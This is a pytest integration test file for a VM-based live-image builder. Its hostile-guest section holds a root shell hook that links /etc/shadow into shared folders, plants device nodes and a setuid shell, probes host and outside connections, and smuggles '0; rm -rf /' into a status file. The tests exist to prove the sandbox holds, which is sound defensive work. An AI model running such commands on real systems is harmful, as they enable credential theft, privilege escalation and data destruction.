"""Extended tier: an image built inside the throwaway builder VM, then booted.

Under TCG (this machine's KVM fails on real boots) a build in the VM takes
many times as long as on the host, so the full build is here; the CI tier
(tests/integration/test_buildervm.py) makes the builder, boots it and checks
that the guest's result comes back.
"""

from __future__ import annotations

import json
import shutil
import socket
import stat
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from deblive.boottest.modes import BootMode
from deblive.boottest.run import TestOptions, run_tests
from deblive.core.log import BuildLog
from deblive.host.configfile import default_config_text
from tests.integration.conftest import ARTIFACTS, Build, build

pytestmark = pytest.mark.extended


@pytest.fixture(scope="session")
def vm_build(tmp_path_factory: pytest.TempPathFactory) -> Build:
    base = tmp_path_factory.mktemp("vmbuild")
    config = base / "images" / "default.yaml"
    config.parent.mkdir()
    data = yaml.safe_load(default_config_text())
    data["name"] = "vmbuilt"  # the ISO's name shows the guest read this very file
    config.write_text(yaml.safe_dump(data))
    result = build(config, base, "--vm")
    console = base / "out" / "logs" / "builder-console.log"
    if not console.exists():
        console = base / "work" / "console.log"  # a failed run keeps it there
    if console.exists():
        ARTIFACTS.mkdir(exist_ok=True)
        shutil.copyfile(console, ARTIFACTS / "builder-vm-console.log")
    assert result.returncode == 0, result.output[-4000:]
    return result


def test_vm_build_writes_the_same_results_plus_the_builders_console(vm_build: Build) -> None:
    out = vm_build.outdir
    for name in ("filesystem.squashfs", "filesystem.packages", "build.log", "report.json",
                 "SHA256SUMS", "logs/builder-console.log", "logs/builder.log"):
        assert (out / name).is_file(), name
    report = json.loads((out / "report.json").read_text())
    assert report["result"] == "success"
    console = (out / "logs/builder-console.log").read_text()
    # The build ran in the guest (its init and its hostname), not on the host.
    assert "deblive-builder: running the build" in console
    assert "deblive-builder: the build ended with status 0" in console
    builder_log = (out / "logs/builder.log").read_text()
    assert "builder VM accelerator:" in builder_log
    # Throwaway: the work disk, the control directory, the whole run directory are gone.
    assert not vm_build.workdir.exists()


def test_vm_build_reads_its_config_at_the_hosts_path(vm_build: Build) -> None:
    assert vm_build.iso.name.startswith("vmbuilt-")
    assert "building vmbuilt:" in (vm_build.outdir / "build.log").read_text()


def test_vm_built_image_boots(vm_build: Build, tmp_path: Path) -> None:
    results = run_tests(vm_build.iso, [BootMode.UEFI_USB], TestOptions(output=tmp_path),
                        BuildLog())
    assert results[0].result == "pass", results[0].failures


# -- a hostile guest: everything it plants stays in the guest's own files -------------

HOSTILE_HOOK = """\
#!/bin/sh
# Runs as root inside the builder VM, with the shares mounted.
OUT=/run/deblive-out RES=/run/deblive-result CACHE=/run/deblive-cache
echo "deblive: guest says [/x] [bold red]markup[/]" > /dev/console
# Links to host files, device nodes and setuid programs in every writable share.
for dir in $OUT $RES $CACHE; do
    ln -sf __SENTINEL__ "$dir/report.json"
    ln -sf /etc/shadow "$dir/build.log"
    mknod "$dir/disk" b 8 0
    mknod "$dir/null" c 1 3
    cp /bin/sh "$dir/suid-sh" && chmod 4755 "$dir/suid-sh"
done
mkdir -p $RES/failed && ln -sf /etc/shadow $RES/failed/build.log
# The host's own services, and the world, through the proxy and around it.
python3 - <<'PY' > /dev/console 2>&1
import socket, urllib.request
for what, call in (
    ("host service", lambda: socket.create_connection(("10.0.2.2", __PORT__), 5)),
    ("outside", lambda: socket.create_connection(("1.1.1.1", 80), 5)),
    ("proxy to a stranger", lambda: urllib.request.urlopen("http://example.invalid/", timeout=10)),
):
    try:
        call()
        print(f"deblive-builder: REACHED {what}")
    except Exception as exc:
        print(f"deblive-builder: refused {what}: {exc}")
PY
# A status that is not a number, written before the build ends, then power off.
echo '0; rm -rf /' > $RES/status
sync
echo o > /proc/sysrq-trigger
sleep 60
"""


Hostile = tuple[Build, Path, list[str]]  # the run, the host sentinel, connections seen


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    base = tmp_path_factory.mktemp("hostile")
    sentinel = base / "sentinel"
    sentinel.write_text("host secret\n")
    connections: list[str] = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(1.0)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, peer = listener.accept()
            except OSError:
                continue
            connections.append(str(peer))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    hook = base / "images" / "hostile.sh"
    hook.parent.mkdir()
    hook.write_text(HOSTILE_HOOK.replace("__SENTINEL__", str(sentinel))
                    .replace("__PORT__", str(listener.getsockname()[1])))
    hook.chmod(0o755)
    config = base / "images" / "hostile.yaml"
    config.write_text("name: hostile\nhook: hostile.sh\nsquashfs: {compression: lz4}\n")
    result = build(config, base, "--vm")
    stop.set()
    listener.close()
    yield result, sentinel, connections


def test_a_hostile_guest_is_refused_and_the_host_untouched(
    hostile_run: Hostile
) -> None:
    result, sentinel, connections = hostile_run
    assert result.returncode == 1, result.output[-3000:]
    assert "the builder VM wrote an invalid status" in result.output
    assert "Traceback" not in result.output
    assert sentinel.read_text() == "host secret\n"
    assert connections == [], "the guest reached a service on the host's 127.0.0.1"
    assert not result.outdir.exists() or not any(result.outdir.iterdir())
    console = (result.workdir / "console.log").read_text(errors="replace")
    assert "REACHED" not in console
    assert "refused host service" in console and "refused proxy to a stranger" in console
    proxy_log = (result.workdir / "proxy.log").read_text()
    assert "refused (403 example.invalid:80" in proxy_log
    # Guest text is plain text to the host: the markup is logged as it came.
    assert "vm | deblive: guest says [/x] [bold red]markup[/]" in \
        (result.workdir / "builder.log").read_text()


def test_nothing_the_guest_planted_is_real_on_the_host(
    hostile_run: Hostile
) -> None:
    result, _sentinel, _connections = hostile_run
    shares = [result.workdir / "out", result.workdir / "result",
              Path("/var/cache/deblive/vm-cache")]
    seen = []
    for share in shares:
        for path in [share, *share.rglob("*")]:
            st = path.lstat()
            seen.append(path.name)
            assert stat.S_ISREG(st.st_mode) or stat.S_ISDIR(st.st_mode), path
            assert not st.st_mode & (stat.S_ISUID | stat.S_ISGID), path
    # They are there, as plain files: mapped-xattr keeps what the guest meant.
    assert {"disk", "null", "suid-sh", "report.json", "build.log"} <= set(seen)
    assert not (result.workdir / "failed" / "build.log").exists()  # a link: not taken
